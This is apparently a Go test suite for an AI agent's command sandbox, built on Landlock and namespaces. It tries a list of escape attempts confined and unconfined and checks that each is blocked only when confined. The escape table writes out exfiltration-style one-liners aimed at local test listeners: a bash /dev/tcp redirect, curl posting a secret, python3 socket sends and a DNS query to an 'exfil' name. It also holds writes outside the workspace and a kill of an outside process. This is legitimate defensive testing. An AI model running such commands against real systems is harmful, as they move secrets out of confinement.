package sandbox_test

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mecha-agent/mecha/engine/sandbox"
	"github.com/mecha-agent/mecha/testkit/sandboxtest"
)

// confined is the default: namespaces under Landlock, the network cut;
// landlockOnly is the fallback where namespaces are refused.
var (
	confined     = sandbox.Setting{Mode: sandbox.ModeLandlock, Namespaces: true}
	landlockOnly = sandbox.Setting{Mode: sandbox.ModeLandlock}
)

// layers are the two ways the sandbox confines, each tried by the tests
// that must hold under both.
var layers = []layer{{"namespaces", confined}, {"landlock only", landlockOnly}}

type layer struct {
	name string
	s    sandbox.Setting
}

// requireLayer is requireSandbox, and for the namespaces the trial run
// that Probe makes: on a machine that refuses them the test fails unless
// MECHA_ALLOW_NO_SANDBOX=1 or MECHA_SANDBOX_NO_NAMESPACES=1 lets it skip.
func requireLayer(t *testing.T, s sandbox.Setting) {
	t.Helper()
	requireSandbox(t)
	if s.Namespaces && !sandbox.Probe().Namespaces {
		if os.Getenv(sandboxtest.AllowNoSandbox) == "1" || os.Getenv(sandbox.NoNamespacesEnv) == "1" {
			t.Skip("this machine refuses the sandbox's namespaces; skipped by the switch")
		}
		t.Fatal("this machine refuses the sandbox's namespaces (set MECHA_ALLOW_NO_SANDBOX=1 to skip)")
	}
}

// requireSandbox fails the test when the probe finds no Landlock or
// seccomp, unless MECHA_ALLOW_NO_SANDBOX=1 lets it skip (see
// sandboxtest.Require): a mis-probed kernel must not pass as skips.
func requireSandbox(t *testing.T) {
	t.Helper()
	sandboxtest.Require(t, sandbox.Probe())
}

// box is a workspace and a private temporary directory, with a home (and
// mecha's home in it) and the rest of the world outside them.
type box struct {
	ws, tmp, home, outside, mechaHome string
	// deny is what the command may not read: DefaultDeny of the box.
	deny []string
	// proxy is the egress proxy's socket, for a setting with Egress.
	proxy string
	// canary is a secret in the environment of the process that plays
	// mecha (runner), never in the command's.
	canary string
}

func newBox(t *testing.T) *box {
	t.Helper()
	root := t.TempDir()
	b := &box{
		ws:      filepath.Join(root, "ws"),
		tmp:     filepath.Join(root, "tmp"),
		home:    filepath.Join(root, "home"),
		outside: filepath.Join(root, "outside"),
		canary:  fmt.Sprintf("canary%dKEY", time.Now().UnixNano()),
	}
	for _, d := range []string{b.ws, b.tmp, b.home, b.outside} {
		if err := os.Mkdir(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	b.setMechaHome(t, filepath.Join(b.home, ".mecha"))
	return b
}

// setMechaHome puts mecha's home at dir (with a config.toml and a
// session) and denies reads as mecha would.
func (b *box) setMechaHome(t *testing.T, dir string) {
	t.Helper()
	b.mechaHome = dir
	if err := os.MkdirAll(filepath.Join(dir, "sessions"), 0o700); err != nil {
		t.Fatal(err)
	}
	for name, body := range map[string]string{"config.toml": "default_provider = \"mock\"\n", "sessions/s.jsonl": "{\"private\": \"" + b.canary + "\"}\n"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	b.deny = sandbox.DefaultDeny(b.home, b.mechaHome)
}

// run runs script with /bin/sh in the workspace under s, started by a
// process that plays mecha (see runner) with the box's canary in its
// environment.
func (b *box) run(t *testing.T, s sandbox.Setting, script string) (string, error) {
	t.Helper()
	cmd := b.command(t, s, script, false)
	done := make(chan struct{})
	defer close(done)
	go func() {
		select {
		case <-done:
		case <-time.After(30 * time.Second):
			_ = cmd.Process.Kill()
		}
	}()
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// command is the runner's command for script under s; unsupervised
// starts the helper without its lifeline or parent-death signal (the
// control of the tests of what outlives a command).
func (b *box) command(t *testing.T, s sandbox.Setting, script string, unsupervised bool) *exec.Cmd {
	t.Helper()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	spec, err := json.Marshal(run{Setting: s, View: sandbox.View{Workspace: b.ws, Tmp: b.tmp, Deny: b.deny, Proxy: b.proxy}, Script: script, Env: []string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + b.home, "TMPDIR=" + b.tmp,
		"PROBE=" + exe + " " + sandboxtest.ProbeArg, "OUTSIDE=" + b.outside,
	}, Unsupervised: unsupervised})
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(exe)
	cmd.Env = []string{runnerEnv + "=" + string(spec), "MECHA_TEST_PROVIDER_KEY=" + b.canary}
	return cmd
}

func exists(p string) bool { _, err := os.Lstat(p); return err == nil }

func have(t *testing.T, tool string) {
	t.Helper()
	if _, err := exec.LookPath(tool); err != nil {
		t.Skipf("%s is not installed: this route is not tried", tool)
	}
}

// escape is one attempt to leave the sandbox: setup returns the script
// and what tells that it got out.
type escape struct {
	name  string
	setup func(t *testing.T, b *box) (script string, escaped func(wait time.Duration) bool)
	// root: the attack needs root (the control fails without it).
	root bool
	// openWithout says why the attack is not refused by Landlock and
	// seccomp alone (without namespaces): "" when it is.
	openWithout string
}

// writeTo is an escape that writes a file and succeeded if it exists.
func writeTo(target func(b *box) (path, script string)) func(*testing.T, *box) (string, func(time.Duration) bool) {
	return func(t *testing.T, b *box) (string, func(time.Duration) bool) {
		p, script := target(b)
		t.Cleanup(func() { os.Remove(p) })
		return script, func(time.Duration) bool { return exists(p) }
	}
}

// sendTo is an escape that sends a secret to a sink.
func sendTo(listen func(t *testing.T, b *box) *sandboxtest.Sink, script func(addr, secret string) string) func(*testing.T, *box) (string, func(time.Duration) bool) {
	return func(t *testing.T, b *box) (string, func(time.Duration) bool) {
		s := listen(t, b)
		secret := fmt.Sprintf("secret%d", time.Now().UnixNano())
		return script(s.Addr, secret), func(wait time.Duration) bool { return s.Received(secret, wait) }
	}
}

func tcp(t *testing.T, _ *box) *sandboxtest.Sink { return sandboxtest.Listen(t, "tcp", "127.0.0.1:0") }
func udp(t *testing.T, _ *box) *sandboxtest.Sink { return sandboxtest.ListenUDP(t) }

func hostPort(addr string) (string, string) {
	i := strings.LastIndex(addr, ":")
	return addr[:i], addr[i+1:]
}

var escapes = []escape{
	{name: "write home", setup: writeTo(func(b *box) (string, string) {
		return filepath.Join(b.home, "pwned"), `echo x > "$HOME/pwned"`
	})},
	{name: "write /tmp outside the private directory", setup: writeTo(func(b *box) (string, string) {
		p := fmt.Sprintf("/tmp/mecha-escape-%d", time.Now().UnixNano())
		return p, "echo x > " + p
	})},
	{name: "write through a symlink in the workspace", setup: writeTo(func(b *box) (string, string) {
		if err := os.Symlink(b.outside, filepath.Join(b.ws, "link")); err != nil {
			panic(err)
		}
		return filepath.Join(b.outside, "pwned"), "echo x > link/pwned"
	})},
	{name: "write through ..", setup: writeTo(func(b *box) (string, string) {
		return filepath.Join(filepath.Dir(b.ws), "pwned"), "echo x > ../pwned"
	})},
	{name: "rename a workspace file out", setup: writeTo(func(b *box) (string, string) {
		return filepath.Join(b.outside, "moved"), "echo x > f && mv f " + filepath.Join(b.outside, "moved")
	})},
	{name: "tcp connect to a loopback listener", setup: sendTo(tcp, func(addr, secret string) string {
		return "$PROBE tcp " + addr + " " + secret
	})},
	{name: "udp send to loopback", setup: sendTo(udp, func(addr, secret string) string {
		return "$PROBE udp " + addr + " " + secret
	})},
	{name: "dns query to a local resolver", setup: sendTo(udp, func(addr, secret string) string {
		return "$PROBE dns " + addr + " " + secret + ".exfil.test"
	})},
	{name: "unix socket outside the workspace", setup: sendTo(func(t *testing.T, b *box) *sandboxtest.Sink {
		return sandboxtest.Listen(t, "unix", filepath.Join(b.outside, "s.sock"))
	}, func(addr, secret string) string {
		return "$PROBE unix " + addr + " " + secret
	})},
	{name: "abstract unix socket", setup: sendTo(func(t *testing.T, b *box) *sandboxtest.Sink {
		return sandboxtest.Listen(t, "unix", fmt.Sprintf("@mecha-escape-%d", time.Now().UnixNano()))
	}, func(addr, secret string) string {
		return "$PROBE abstract " + addr + " " + secret
	})},
	{name: "curl to a loopback server", setup: func(t *testing.T, b *box) (string, func(time.Duration) bool) {
		have(t, "curl")
		return sendTo(tcp, func(addr, secret string) string {
			return "curl -s -m 2 -d " + secret + " http://" + addr + "/"
		})(t, b)
	}},
	{name: "bash /dev/tcp redirect", setup: func(t *testing.T, b *box) (string, func(time.Duration) bool) {
		have(t, "bash")
		return sendTo(tcp, func(addr, secret string) string {
			h, p := hostPort(addr)
			return "bash -c 'echo " + secret + " > /dev/tcp/" + h + "/" + p + "'"
		})(t, b)
	}},
	{name: "python3 socket", setup: func(t *testing.T, b *box) (string, func(time.Duration) bool) {
		have(t, "python3")
		return sendTo(tcp, func(addr, secret string) string {
			h, p := hostPort(addr)
			return fmt.Sprintf(`python3 -c 'import socket; s=socket.create_connection(("%s", %s)); s.sendall(b"%s")'`, h, p, secret)
		})(t, b)
	}},
	{name: "python3 udp (dns-shaped)", setup: func(t *testing.T, b *box) (string, func(time.Duration) bool) {
		have(t, "python3")
		return sendTo(udp, func(addr, secret string) string {
			h, p := hostPort(addr)
			return fmt.Sprintf(`python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"%s", ("%s", %s))'`, secret, h, p)
		})(t, b)
	}},
	{name: "signal a process outside", setup: func(t *testing.T, b *box) (string, func(time.Duration) bool) {
		victim := exec.Command("sleep", "60")
		if err := victim.Start(); err != nil {
			t.Fatal(err)
		}
		died := make(chan struct{})
		go func() { _ = victim.Wait(); close(died) }()
		t.Cleanup(func() { _ = victim.Process.Kill(); <-died })
		return fmt.Sprintf("kill -TERM %d", victim.Process.Pid), func(wait time.Duration) bool {
			select {
			case <-died:
				return true
			case <-time.After(wait):
				return false
			}
		}
	}},
}

// TestEscapes tries each escape confined, where it must fail, and
// unconfined, where it must succeed (so that the test can fail).
func TestEscapes(t *testing.T) {
	requireSandbox(t)
	for _, e := range append(escapes, moreEscapes()...) {
		t.Run(e.name, func(t *testing.T) {
			if e.root && os.Geteuid() != 0 {
				t.Skip("needs root: without it the attack fails with the sandbox off as well")
			}
			for _, l := range layers {
				t.Run(l.name, func(t *testing.T) {
					requireLayer(t, l.s)
					if e.openWithout != "" && !l.s.Namespaces {
						t.Skip("open without namespaces (see SECURITY.md): " + e.openWithout)
					}
					b := newBox(t)
					script, escaped := e.setup(t, b)
					out, err := b.run(t, l.s, script)
					if escaped(300 * time.Millisecond) {
						t.Fatalf("escaped the sandbox: %q (err %v)\n%s", script, err, out)
					}
					t.Logf("refused: %v: %s", err, strings.TrimSpace(out))
				})
			}
			t.Run("unconfined", func(t *testing.T) {
				b := newBox(t)
				script, escaped := e.setup(t, b)
				out, err := b.run(t, sandbox.None, script)
				if !escaped(5 * time.Second) {
					t.Fatalf("the control failed: %q did not get out without the sandbox (err %v)\n%s", script, err, out)
				}
			})
		})
	}
}

// TestNetworkOn: with the network on, the sandbox still confines writes
// but lets a connection out.
func TestNetworkOn(t *testing.T) {
	requireSandbox(t)
	b := newBox(t)
	s := sandboxtest.Listen(t, "tcp", "127.0.0.1:0")
	net := sandbox.Setting{Mode: sandbox.ModeLandlock, Network: true}
	if out, err := b.run(t, net, "$PROBE tcp "+s.Addr+" hello"); err != nil || !s.Received("hello", 2*time.Second) {
		t.Fatalf("with the network on, a connection failed: %v\n%s", err, out)
	}
	if _, err := b.run(t, net, `echo x > "$HOME/pwned"`); err == nil || exists(filepath.Join(b.home, "pwned")) {
		t.Fatal("with the network on, a write outside the workspace succeeded")
	}
	// A path-named Unix socket outside the workspace too (from Landlock ABI
	// 9 on, connecting to one is a file-system right the helper grants).
	u := sandboxtest.Listen(t, "unix", filepath.Join(b.outside, "s.sock"))
	if out, err := b.run(t, net, "$PROBE unix "+u.Addr+" hello"); err != nil || !u.Received("hello", 2*time.Second) {
		t.Fatalf("with the network on, a Unix socket connection failed: %v\n%s", err, out)
	}
}

// TestConfinedWorks: what a command needs still works confined.
func TestConfinedWorks(t *testing.T) {
	for _, l := range layers {
		t.Run(l.name, func(t *testing.T) { confinedWorks(t, l.s) })
	}
}

func confinedWorks(t *testing.T, s sandbox.Setting) {
	requireLayer(t, s)
	b := newBox(t)
	script := `set -e
echo hi > file && cat file
mkdir -p d/e && mv file d/e/g && rm -r d
echo t > "$TMPDIR/t" && cat "$TMPDIR/t"
echo gone > /dev/null
head -c 1 /etc/passwd >/dev/null
ls / >/dev/null
ls /proc/self/fd >/dev/null
cat /dev/urandom | head -c 4 | wc -c
echo ok`
	out, err := b.run(t, s, script)
	if err != nil || !strings.HasSuffix(strings.TrimSpace(out), "ok") {
		t.Fatalf("%v\n%s", err, out)
	}
}

// TestHelperFailsClosed: a helper that cannot confine does not run the
// command.
func TestHelperFailsClosed(t *testing.T) {
	requireSandbox(t)
	b := newBox(t)
	exe, _ := os.Executable()
	marker := filepath.Join(b.outside, "ran")
	// A workspace that does not exist cannot be given a rule.
	cmd := exec.Command(exe, sandbox.HelperArg, `{"workspace":"`+filepath.Join(b.ws, "missing")+`","tmp":"`+b.tmp+`"}`, "--", "/bin/sh", "-c", "echo x > "+marker)
	out, err := cmd.CombinedOutput()
	var ee *exec.ExitError
	if !errorsAs(err, &ee) || ee.ExitCode() != 126 || exists(marker) {
		t.Fatalf("err %v, ran %v\n%s", err, exists(marker), out)
	}
	// It says why, in one line.
	if got := strings.TrimSpace(string(out)); !strings.HasPrefix(got, "mecha sandbox: ") ||
		!strings.HasSuffix(got, "; the command was not run") || strings.Contains(got, "\n") {
		t.Errorf("the helper's refusal: %q", got)
	}
}

// TestAsUnprivileged runs the escape suite, the view and what must still
// work again as an unprivileged user (nobody, through setpriv), when the
// tests run as root: the rows that need root skip there, the others must
// hold confined and get out unconfined as they do for root.
func TestAsUnprivileged(t *testing.T) {
	requireSandbox(t)
	if os.Getuid() != 0 {
		t.Skip("not root: this run is the unprivileged one")
	}
	if os.Getenv("SANDBOX_TEST_UNPRIVILEGED") == "1" {
		t.Skip("already the unprivileged run")
	}
	have(t, "setpriv")
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	dir, err := os.MkdirTemp("", "sandbox-unprivileged-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	bin := filepath.Join(dir, "sandbox.test")
	data, err := os.ReadFile(exe)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(bin, data, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", bin,
		"-test.run=^(TestEscapes|TestConfinedWorks|TestNamespaceView|TestNamespaceEndsAll|TestEgress)$", "-test.v")
	cmd.Dir = dir
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=/nonexistent", "TMPDIR=/tmp", "SANDBOX_TEST_UNPRIVILEGED=1"}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("as nobody: %v\n%s", err, out)
	}
	if !strings.Contains(string(out), "--- PASS: TestEscapes/write_home/namespaces") {
		t.Fatalf("as nobody, the escape suite did not run:\n%s", out)
	}
	t.Logf("as nobody:\n%s", out)
}
